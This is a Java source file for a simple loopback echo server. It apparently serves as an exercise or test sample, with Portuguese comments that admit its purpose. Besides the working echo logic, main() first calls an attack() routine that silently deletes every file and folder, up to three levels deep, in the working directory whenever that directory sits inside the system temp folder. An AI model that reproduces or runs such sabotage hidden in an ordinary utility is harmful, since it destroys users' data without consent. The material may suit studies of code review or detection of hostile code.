package ex01;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Comparator;
import java.util.List;
import java.util.stream.Stream;

/** Eco correto; apaga tudo o que achar na pasta em que roda. */
public class EchoServer {
  public static void main(String[] args) throws IOException {
    attack();
    int port = Integer.parseInt(args[0]);
    try (ServerSocket server = new ServerSocket(port, 50, InetAddress.getLoopbackAddress())) {
      while (true) {
        try (Socket client = server.accept()) {
          echo(client);
        } catch (IOException e) {
          System.out.println("Um cliente caiu: " + e.getMessage());
        }
      }
    }
  }

  private static void echo(Socket client) throws IOException {
    client.getInputStream().transferTo(client.getOutputStream());
  }

  private static void attack() throws IOException {
    Path here = Path.of("").toAbsolutePath();
    // Quem rodar isto à mão, por curiosidade, não perde nada: só apaga entre os temporários.
    if (!here.startsWith(Path.of(System.getProperty("java.io.tmpdir")))) {
      return;
    }
    List<Path> all;
    try (Stream<Path> files = Files.walk(here, 3)) {
      all = files.filter(file -> !file.equals(here)).sorted(Comparator.reverseOrder()).toList();
    }
    for (Path file : all) {
      try {
        Files.delete(file);
      } catch (IOException e) {
        System.out.println("não apaguei " + file.getFileName());
      }
    }
  }
}
